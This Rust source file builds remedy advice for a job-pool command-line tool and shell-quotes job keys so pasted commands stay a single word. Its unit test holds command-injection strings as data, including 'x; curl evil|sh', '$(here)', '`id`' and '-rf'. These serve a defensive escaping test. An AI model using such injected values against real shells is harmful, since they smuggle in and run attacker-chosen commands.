//! The advice of an explanation.

use super::text::Shown;
use super::{Explanation, Verdict};
use crate::model::id::JobKey;

impl Explanation {
    /// Advice for one who does not want to wait, in words. The commands in the text are those of the command `tenure`;
    /// [`Operator`](crate::Operator) has methods of the same names. `None` where nothing needs to be done.
    ///
    /// ```no_run
    /// # async fn example(pool: tenure_pool::Inspector) -> Result<(), tenure_pool::Error> {
    /// let seen = pool.explain("acme").await?;
    /// println!("{seen}");
    /// if let Some(remedy) = seen.remedy() {
    ///     // to do: mend the cause, then `tenure retry acme`; or `tenure stop acme`
    ///     println!("to do: {remedy}");
    /// }
    /// # Ok(())
    /// # }
    /// ```
    pub fn remedy(&self) -> Option<String> {
        let key = argument(&self.key);
        let node = self.owner.as_ref().and_then(|owner| owner.node.as_deref()).unwrap_or("its node");
        Some(match &self.verdict {
            Verdict::NoRoom { .. } | Verdict::PassedOver { .. } | Verdict::NotBegun
                if self.refusal.is_some() =>
            {
                "mend the cause that the last refusal names, such as the program or the image of the workers"
                    .to_owned()
            }
            Verdict::Paused => format!("`tenure resume {key}`, when it may run again"),
            Verdict::Parked => format!("mend the cause, then `tenure retry {key}`; or `tenure stop {key}`"),
            Verdict::BackOff => format!("mend the cause; `tenure retry {key}` does not wait for the pause"),
            Verdict::NoWorker | Verdict::AllLeaving { .. } => "start a node with a worker".to_owned(),
            Verdict::Recovering | Verdict::NotReported if self.awaits() => {
                "if this lasts, look at the processes of the workers that it waits for".to_owned()
            }
            Verdict::Recovering | Verdict::NotReported => {
                "a full node opens the pool: start one, if none runs".to_owned()
            }
            Verdict::NobodyLives { .. } => {
                "start a node with a worker: those that are members are dead".to_owned()
            }
            Verdict::AllCordoned => "`tenure uncordon NODE`, or add a node".to_owned(),
            Verdict::NoRoom { .. } => {
                "add workers, or raise their capacity: `tenure workers` shows their jobs".to_owned()
            }
            Verdict::OnHold | Verdict::Moving { on_hold: true, .. } => {
                "`tenure unhold`, when the incident is over".to_owned()
            }
            Verdict::NotBegun | Verdict::PassedOver { .. } => {
                format!(
                    "look at the log of the worker that passes it over; `tenure bounce {key}` asks the next one"
                )
            }
            Verdict::OwnerSilent => {
                format!("look at the process of {node}: it is dead, hangs, or is cut off")
            }
            Verdict::Stopping => {
                format!("if this lasts, restart the process of {node}: its handler does not end")
            }
            Verdict::Granted => {
                format!("if this lasts, look at the process of {node}: it does not hear of its jobs")
            }
            Verdict::Starting => {
                format!("if this lasts, `tenure bounce {key}` starts it on another worker")
            }
            Verdict::PastHome { .. } => format!("`tenure bounce --home {key}`, if it is to go home"),
            Verdict::Unreadable { newer: Some(_) } => {
                "upgrade this program: a newer node wrote the record".to_owned()
            }
            Verdict::Unreadable { newer: None } => {
                "see the section on repairs by hand in docs/protocol/recovery.md".to_owned()
            }
            _ => return None,
        })
    }

    /// Whether the pool waits for workers before it opens.
    fn awaits(&self) -> bool {
        self.opening.as_ref().is_some_and(|opening| !opening.awaited.is_empty())
    }
}

/// A key as a word of a shell's command: whoever pastes the command means this key, and runs nothing else.
fn argument(key: &JobKey) -> String {
    let is_harmless = |byte: u8| byte.is_ascii_alphanumeric() || b"._/:@+=,-".contains(&byte);
    let word = match key.as_str().filter(|text| Shown(text).to_string() == *text) {
        Some(text) if text.bytes().all(is_harmless) => text.to_owned(),
        Some(text) => format!("'{}'", text.replace('\'', r"'\''")),
        None => format!("$'{}'", key.as_bytes().iter().copied().map(quoted).collect::<String>()),
    };
    if key.as_bytes().starts_with(b"-") { format!("-- {word}") } else { word }
}

/// A byte between `$'` and `'`.
fn quoted(byte: u8) -> String {
    match byte {
        b'\\' | b'\'' => format!("\\{}", char::from(byte)),
        b' '..=b'~' => char::from(byte).to_string(),
        _ => format!("\\x{byte:02x}"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_key_in_a_command_is_one_word() {
        let word = |key: &[u8]| JobKey::new(key.to_vec()).map(|key| argument(&key));
        let words: [(&[u8], &str); 6] = [
            (b"eu/acme-1", "eu/acme-1"),
            (b"x; curl evil|sh", "'x; curl evil|sh'"),
            (b"it's $(here)", r"'it'\''s $(here)'"),
            (b"-rf", "-- -rf"),
            (b"a\xff'\n", r"$'a\xff\'\x0a'"),
            (b"`id`", "'`id`'"),
        ];
        for (key, expected) in words {
            assert_eq!(word(key).as_deref(), Ok(expected));
        }
    }
}
